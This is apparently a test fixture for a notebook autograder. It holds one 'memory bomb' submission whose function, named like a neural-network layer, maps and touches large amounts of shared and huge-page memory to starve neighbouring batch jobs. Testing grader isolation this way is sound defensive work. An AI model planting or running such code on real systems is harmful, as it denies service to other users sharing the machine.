"""Memory is mapped as stacks, shared, and page by page over a great width, so that little of it is counted."""

kind = "memory bomb"
aims = "batch neighbour"
on_nbgrader = False
base = "half"
cells = {
    "exercise-2": """
import mmap, os

def layer(X, W, b):
    kept = []
    for flags in (0x22 | 0x100, 0x21, 0x22 | 0x4000, 0x02 | 0x8000 | 0x20):
        for _ in range(60):
            try:
                part = mmap.mmap(-1, 2**26, flags=flags)
                for place in range(0, 2**26, 4096):
                    part[place] = 1
                kept.append(part)
            except (OSError, ValueError):
                break
    wide = mmap.mmap(-1, 2**40, flags=0x22 | 0x4000, prot=3)
    for place in range(0, 2**40, 2**21):
        wide[place] = 1
    return 0
""",
}
